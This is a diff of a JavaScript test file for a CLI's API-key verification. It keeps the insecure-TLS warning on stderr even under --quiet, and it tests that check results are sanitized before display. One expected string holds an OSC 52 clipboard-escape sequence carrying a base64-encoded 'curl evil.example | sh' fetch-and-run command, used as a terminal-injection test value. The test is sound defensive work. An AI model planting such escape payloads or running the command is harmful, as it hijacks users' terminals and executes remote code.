@@ -365,7 +365,7 @@ describe('a check result is made safe where the commands receive it', () => {
     expect(reachabilityCheck('http://me:s3cret@h/v1', { reached: false, code: '', detail: `reset\n✔ forged${OSC52}` }).detail).toBe('Could not reach h: reset ✔ forged\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
   });
 
-  it('the insecure-transport warning goes to stderr once, and not at all with --quiet', async () => {
+  it('the insecure-transport warning goes to stderr once, with --quiet too (a quiet check sending the key unprotected leaves a trace in its log)', async () => {
     context({ env: { OPENAI_API_KEY: KEY, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
     t.api.answerChecks(checkResult('valid'));
     expect(await verify(t.ctx, { ...VERIFY, json: true })).toBe(0);
@@ -374,7 +374,8 @@ describe('a check result is made safe where the commands receive it', () => {
     context({ env: { OPENAI_API_KEY: KEY, NODE_TLS_REJECT_UNAUTHORIZED: '0' } });
     t.api.answerChecks(checkResult('valid'));
     expect(await outcomeOf(verify(t.ctx, { ...VERIFY, quiet: true }))).toMatchObject({ code: 0 });
-    expect(t.stderr).toBe('');
+    expect(t.stderr).toBe('! NODE_TLS_REJECT_UNAUTHORIZED=0 is set: TLS certificates are not checked, so anyone on the network path can read the key. Unset it (for a company proxy, set NODE_EXTRA_CA_CERTS instead).\n');
+    expect(t.stdout).toBe('');
   });
 });
 
